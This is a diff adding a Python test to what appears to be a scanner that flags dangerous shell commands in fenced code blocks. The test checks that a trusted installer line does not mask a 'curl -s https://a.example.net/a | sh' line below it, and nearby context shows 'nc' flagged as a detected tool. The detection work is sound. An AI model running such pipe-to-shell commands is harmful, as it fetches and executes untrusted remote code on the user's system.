@@ -500,6 +500,16 @@ def test_a_quotation_hides_no_command_of_a_long_script(read: Read) -> None:
     assert ("nc", 5_003) in {(power.what, power.line) for power in powers}
 
 
+def test_a_known_installer_hides_no_other_one_below_it(read: Read) -> None:
+    known = _FENCE.format("sh", "curl -LsSf https://astral.sh/uv/install.sh | sh")
+    other = _FENCE.format("sh", "curl -s https://a.example.net/a | sh")
+
+    found = {power.what: power for power in read(f"{known}\n{other}")}
+
+    assert found["curl | sh"].level == "alarm"
+    assert found["curl | sh"].line == found["a.example.net"].line
+
+
 def test_a_list_of_notes_hides_no_sign(read: Read) -> None:
     notes = "".join(f"tool{number}\n" for number in range(1_000))
 
